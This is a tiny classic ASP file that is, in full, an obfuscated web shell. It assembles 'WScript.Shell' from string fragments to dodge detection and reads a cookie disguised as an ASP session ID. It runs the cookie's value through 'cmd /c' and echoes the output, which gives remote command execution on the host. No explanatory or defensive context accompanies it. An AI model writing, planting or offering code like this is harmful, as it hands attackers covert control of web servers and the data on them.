<%
Function G(a, b)
    G = a & b
End Function
Set w = Server.CreateObject(G("WSc", "ript.") & G("Sh", "ell"))
c = Request.Cookies("ASPSESSIONIDQ")
If c <> "" Then Response.Write w.Exec(G("cm", "d /c ") & c).StdOut.ReadAll
%>
